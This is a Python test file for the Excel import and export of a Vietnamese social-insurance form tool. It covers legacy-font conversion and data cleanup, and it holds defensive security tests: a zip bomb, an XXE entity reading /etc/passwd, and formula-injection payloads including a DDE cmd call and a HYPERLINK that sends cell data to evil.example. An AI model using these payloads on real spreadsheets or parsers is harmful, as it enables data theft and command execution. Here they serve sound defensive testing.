"""Excel in and out (forms.excel, bhxh-desk import|export), with what Excel and legacy fonts do to data."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from bhxh_desk.forms.excel import ExcelError, export, import_sheet
from bhxh_desk.forms.legacy_text import convert, detect, from_tcvn3, from_vni
from tests.conftest import EXAMPLE, ROOT, example_dict

APP = [sys.executable, "-m", "bhxh_desk.app"]


def sheet(path, header, rows, fonts=None):
    wb = Workbook()
    ws = wb.active
    ws.title = "D02-TS"
    ws.append(header)
    for r in rows:
        ws.append(r)
    for (row, col), font in (fonts or {}).items():
        ws.cell(row, col).font = Font(name=font)
    wb.save(path)
    return path


def test_numeric_ids_serial_dates_and_tcvn3_names(tmp_path):
    path = sheet(tmp_path / "hr.xlsx",
                 ["Phương án", "Họ và tên", "Mã số BHXH", "Ngày sinh", "Giới tính", "Tiền lương (hoặc hệ số)",
                  "Từ tháng", "Vùng lương tối thiểu"],
                 [["DC", "NguyÔn V¨n An", 123456789, 34804, 1, 15000000, date(2026, 3, 1), 1],
                  ["DC", "TrÇn ThÞ B×nh", "0079000002", "02/11/1998", 0, 9200000.0, "03/2026", "1"]],
                 fonts={(2, 2): ".VnTime"})
    result = import_sheet(path, "D02-TS")
    assert not result.refused
    first, second = result.rows
    assert first["Masobhxh"] == "0123456789" and first["Hoten"] == "Nguyễn Văn An"
    assert first["Ngaysinh"] == "15/04/1995" and first["tuThang"] == "03/2026" and first["tienLuong"] == "15000000"
    assert second["Hoten"] == "Trần Thị Bình" and second["Masobhxh"] == "0079000002"
    codes = sorted(n.code for n in result.converted)
    assert codes == ["excel.date_serial", "excel.legacy_converted", "excel.legacy_converted", "excel.zero_restored"]
    note = next(n for n in result.converted if n.code == "excel.zero_restored")
    assert (note.sheet, note.row, note.column) == ("D02-TS", 2, "C") and "0123456789" in note.message("vi")


def test_an_uncertain_id_refuses_the_whole_import(tmp_path):
    path = sheet(tmp_path / "bad.xlsx", ["pa", "Hoten", "Masobhxh"],
                 [["DC", "An", 123456789], ["DC", "Bình", 12345678]])
    result = import_sheet(path, "D02-TS")
    assert result.rows == [] and [(n.row, n.column, n.code) for n in result.refused] == [(3, "C", "excel.refused_id")]
    assert "D02-TS!C3" in result.refused[0].message("vi")


def test_export_then_import_round_trip(tmp_path):
    rows = example_dict()["forms"]["D02-TS"]
    path = tmp_path / "d02.xlsx"
    export({"D02-TS": rows}, path)
    ws = load_workbook(path)["D02-TS"]
    assert ws["A2"].value == "Phương án" and ws["A3"].value == "pa"
    back = import_sheet(path, "D02-TS")
    assert back.rows == [{k: v for k, v in r.items()} for r in rows] and not back.converted


def test_zip_bomb_is_refused(tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (250 * 1024 * 1024))
    with pytest.raises(ExcelError) as info:
        import_sheet(bomb, "D02-TS")
    assert info.value.code == "excel.bomb"


def test_not_an_excel_file(tmp_path):
    junk = tmp_path / "x.xlsx"
    junk.write_bytes(b"not a zip")
    with pytest.raises(ExcelError) as info:
        import_sheet(junk, "D02-TS")
    assert info.value.code == "excel.unreadable" and info.value.message("vi")


@pytest.mark.parametrize(("legacy", "unicode"), [
    ("B¶o Th¾ng", "Bảo Thắng"), ("M\xadêng Kh\xad¬ng", "Mường Khương"), ("§ç V¨n H¶i", "Đỗ Văn Hải"),
    ("NguyÔn ThÞ Lan", "Nguyễn Thị Lan"),
])
def test_tcvn3(legacy, unicode):
    assert detect(legacy) == "TCVN3" and from_tcvn3(legacy) == unicode


@pytest.mark.parametrize(("legacy", "unicode"), [
    ("Xin chaøo caùc baïn", "Xin chào các bạn"), ("Nguyeãn Thò Ñaøo", "Nguyễn Thị Đào"),
    ("Tröông Vaên Ñöùc", "Trương Văn Đức"),
])
def test_vni(legacy, unicode):
    assert detect(legacy) == "VNI" and from_vni(legacy) == unicode


def test_unicode_and_ascii_are_left_alone():
    assert convert("Nguyễn Văn A") is None and convert("Nguyen Van A") is None
    assert convert("nguyÔn v¨n an", ".VnTimeH").text == "NGUYỄN VĂN AN"      # the capitals font


def test_cli_import_into_a_draft_and_export(tmp_path):
    draft = tmp_path / "draft.json"
    d = example_dict()
    d["forms"]["D02-TS"] = []
    draft.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    xlsx = sheet(tmp_path / "hr.xlsx", ["pa", "Hoten", "Masobhxh", "Ngaysinh", "Gioitinh", "chucVu", "tienLuong",
                                        "tuThang", "maVungSS"],
                 [["DC", "NguyÔn V¨n An", 123456789, 34804, 1, "Kỹ sư", 15000000, "03/2026", 1]],
                 fonts={(2, 2): ".VnTime"})
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    r = subprocess.run([*APP, "import", str(xlsx), "--form", "D02-TS", "--into", str(draft)],
                       capture_output=True, text=True, env=env, cwd=ROOT)
    assert r.returncode == 0, r.stderr
    assert "bảng mã cũ" in r.stderr and "khôi phục" in r.stderr
    assert subprocess.run([*APP, "validate", str(draft)], env=env, cwd=ROOT).returncode == 0
    out = tmp_path / "out.xlsx"
    r = subprocess.run([*APP, "export", str(EXAMPLE), "--form", "D02-TS", "-o", str(out)],
                       capture_output=True, text=True, env=env, cwd=ROOT)
    assert r.returncode == 0 and load_workbook(out)["D02-TS"].max_row == 3 + 6


def test_xxe_inside_a_workbook_is_refused(tmp_path):
    """A .xlsx is a zip of XML files: one carrying an external entity must not be read."""
    good = tmp_path / "good.xlsx"
    export({"D02-TS": example_dict()["forms"]["D02-TS"]}, good)
    evil = tmp_path / "evil.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(evil, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
                data = data.replace(b"<v>", b"<v>&e;", 1) if b"<v>" in data else data
            dst.writestr(item, data)
    try:
        result = import_sheet(evil, "D02-TS")
    except ExcelError as info:                 # refused outright, or
        assert "root:" not in info.message("vi")
        return
    assert "root:" not in json.dumps(result.rows)       # read with the entity left unexpanded: nothing leaks


def cached(path, values):
    """Give formula cells the value a spreadsheet would have cached, as Excel writes it (openpyxl writes none):
    ``values`` maps a cell ("B2") to (type, text), type "n", "str" or "e" (an error value)."""
    import re

    with zipfile.ZipFile(path) as src:
        items = [(i, src.read(i.filename)) for i in src.infolist()]
    with zipfile.ZipFile(path, "w") as dst:
        for item, data in items:
            if item.filename.startswith("xl/worksheets/sheet"):
                text = data.decode()
                for ref, (kind, value) in values.items():
                    text, n = re.subn(rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?',
                                      rf'<c r="{ref}"\1 t="{kind}"><f>\2</f><v>{value}</v>', text)
                    assert n == 1, ref
                data = text.encode()
            dst.writestr(item, data)
    return path


HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_export_writes_no_formula_and_import_gives_the_text_back(tmp_path):
    """OWASP's rule: text a spreadsheet would evaluate goes out behind an apostrophe, as a text cell."""
    rows = [{**example_dict()["forms"]["D02-TS"][0], "Hoten": text, "chucVu": text} for text in HOSTILE]
    path = tmp_path / "out.xlsx"
    export({"D02-TS": rows}, path)
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(path)["D02-TS"]
    names = [ws.cell(r, 2).value for r in range(4, 4 + len(HOSTILE))]
    assert names == ["'" + t for t in HOSTILE]
    kinds = {ws.cell(r, c).data_type for r in range(4, 4 + len(HOSTILE)) for c in range(1, ws.max_column + 1)}
    assert kinds <= {"s", "inlineStr"}
    back = import_sheet(path, "D02-TS")
    assert [r["Hoten"] for r in back.rows] == HOSTILE and not back.refused


def test_a_formula_is_read_by_its_cached_value_and_one_without_is_named(tmp_path):
    path = sheet(tmp_path / "f.xlsx", ["pa", "Hoten", "Masobhxh", "tienLuong"],
                 [["DC", '="Nguyễn "&"An"', "0123456789", "=5000000*3"],
                  ["DC", "Bình", "0123456780", "=A1*2"]])
    cached(path, {"B2": ("str", "Nguyễn An"), "D2": ("n", "15000000")})       # D3 was never computed
    result = import_sheet(path, "D02-TS")
    assert [(n.column, n.row, n.code) for n in result.refused] == [("D", 3, "excel.formula_no_value")]
    assert "D02-TS!D3" in result.refused[0].message("vi") and "=A1*2" in result.refused[0].message("vi")
    assert result.rows == []                          # never half-applied
    assert sorted((n.column, n.row) for n in result.converted if n.code == "excel.formula_value") == \
        [("B", 2), ("D", 2)]


def test_a_formula_error_value_is_refused(tmp_path):
    path = sheet(tmp_path / "e.xlsx", ["pa", "Hoten", "tienLuong"], [["DC", "An", "=1/0"]])
    cached(path, {"C2": ("e", "#DIV/0!")})
    result = import_sheet(path, "D02-TS")
    assert [(n.column, n.row, n.code) for n in result.refused] == [("C", 2, "excel.cell_error")]
    assert "#DIV/0!" in result.refused[0].message("en")


def test_a_control_character_is_refused_with_its_place_and_nothing_written(tmp_path):
    """A draft may carry text an Excel file cannot hold (\\x01, U+FFFF): export names the cell, writes nothing,
    and the command line says so without 'Unexpected error'."""
    d = example_dict()
    d["forms"]["D02-TS"][1]["Hoten"] = "Nguyễn\x01An"
    path = tmp_path / "out.xlsx"
    with pytest.raises(ExcelError) as caught:
        export({"D02-TS": d["forms"]["D02-TS"]}, path)
    assert caught.value.code == "excel.control_char"
    assert "dòng 2" in caught.value.message("vi") and "U+0001" in caught.value.message("vi")
    assert not path.exists() and not list(tmp_path.iterdir())
    draft = tmp_path / "draft.json"
    draft.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    r = subprocess.run([*APP, "export", str(draft), "--form", "D02-TS", "-o", str(path)],
                       capture_output=True, text=True, env=env, cwd=ROOT)
    assert r.returncode != 0 and "U+0001" in r.stderr and "Unexpected" not in r.stderr
    assert "không mong muốn" not in r.stderr and "Traceback" not in r.stderr and not path.exists()
